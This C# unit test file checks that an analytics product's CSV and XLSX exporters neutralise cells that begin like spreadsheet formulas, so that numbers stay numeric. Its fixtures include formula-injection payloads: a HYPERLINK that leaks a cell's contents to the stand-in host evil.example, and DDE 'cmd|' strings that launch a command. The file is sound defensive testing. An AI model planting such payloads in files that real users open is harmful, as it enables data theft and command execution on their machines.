using System.IO.Compression;
using System.Text;
using Analytics.Warehouse.Exports;
using MiniExcelLibs;

namespace Analytics.Tests.Exports;

/// <summary>
/// One CSV writer and one XLSX writer for the product: text a spreadsheet would run as a formula is neutralised
/// (OWASP: = + - @ tab CR), numbers stay numbers.
/// </summary>
public sealed class ExportInjectionTests
{
    private static readonly string[] Headers = ["用户 user", "文件 file", "示范点 site", "区(市)县 district", "数 n", "比 ratio", "日期 date"];

    private static readonly object?[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0.csv", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        -3, 1.5, new DateOnly(2023, 6, 30),
    ];

    private static readonly object?[] Plain = ["\t=1+1", "\r=1+1", "$=1+1", "＝1+1", -2L, -0.25m, null];

    private static string[] CsvLines(byte[] bytes)
    {
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        return Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
    }

    [Fact]
    public void Csv_cells_that_start_like_a_formula_get_an_apostrophe_and_numbers_stay_numbers()
    {
        var lines = CsvLines(ExportCsv.ToBytes(Headers, [Hostile]));

        Assert.Equal(2, lines.Length);
        Assert.Equal(
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\",'+cmd|' /C calc'!A0.csv,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,-3,1.5,2023-06-30",
            lines[1]);
    }

    [Fact]
    public void Tab_carriage_return_full_width_and_miniexcel_formula_starts_are_neutralised_too()
    {
        var csv = Encoding.UTF8.GetString(ExportCsv.ToBytes(Headers, [Plain])[3..]);

        Assert.Contains("\n'\t=1+1,", csv);
        Assert.Contains("\"'\r=1+1\"", csv);
        Assert.Contains(",'$=1+1,'＝1+1,-2,-0.25,", csv);
    }

    [Theory]
    [InlineData("-3", "-3")]
    [InlineData("1.5", "1.5")]
    [InlineData("+7", "+7")]
    [InlineData("-1e5", "-1e5")]
    [InlineData("-", "'-")]
    [InlineData("-3-1", "'-3-1")]
    [InlineData("=1", "'=1")]
    [InlineData("普通文本", "普通文本")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void A_text_that_is_exactly_a_number_is_left_as_it_is(string text, string expected) =>
        Assert.Equal(expected, ExportCells.Neutralise(text));

    [Fact]
    public void Header_cells_are_neutralised_as_well()
    {
        var lines = CsvLines(ExportCsv.ToBytes(["=evil()", "n"], []));
        Assert.Equal("'=evil(),n", lines[0]);
    }

    [Fact]
    public void Xlsx_string_cells_are_neutralised_and_numbers_are_numeric_cells()
    {
        var bytes = ExportXlsx.ToBytes([new ExportSheet("汇总", [Headers, Hostile])]);

        using var stream = new MemoryStream(bytes);
        var rows = stream.Query(useHeaderRow: false, sheetName: "汇总").Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", rows[1]["A"]);
        Assert.Equal("'+cmd|' /C calc'!A0.csv", rows[1]["B"]);
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", rows[1]["C"]);
        Assert.Equal("'-2+3+cmd|' /C calc'!A0", rows[1]["D"]);
        Assert.Equal(-3d, Convert.ToDouble(rows[1]["E"], System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(1.5d, Convert.ToDouble(rows[1]["F"], System.Globalization.CultureInfo.InvariantCulture));

        var sheetXml = SheetXml(bytes);
        Assert.DoesNotContain("<x:f>", sheetXml);
        Assert.DoesNotContain("<f>", sheetXml);
        Assert.Matches("<x:c r=\"E2\"[^>]*t=\"n\"[^>]*>|<c r=\"E2\"[^>]*t=\"n\"", sheetXml);
    }

    [Fact]
    public void Xlsx_does_not_turn_a_dollar_equals_text_into_a_formula()
    {
        var bytes = ExportXlsx.ToBytes([new ExportSheet("s", [new object?[] { "$=1+1", "=1+1" }])]);

        var sheetXml = SheetXml(bytes);
        Assert.DoesNotContain("<x:f>", sheetXml);
        Assert.DoesNotContain("<f>", sheetXml);
    }

    private static string SheetXml(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        var entry = zip.Entries.First(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
        using var reader = new StreamReader(entry.Open());
        return reader.ReadToEnd();
    }
}
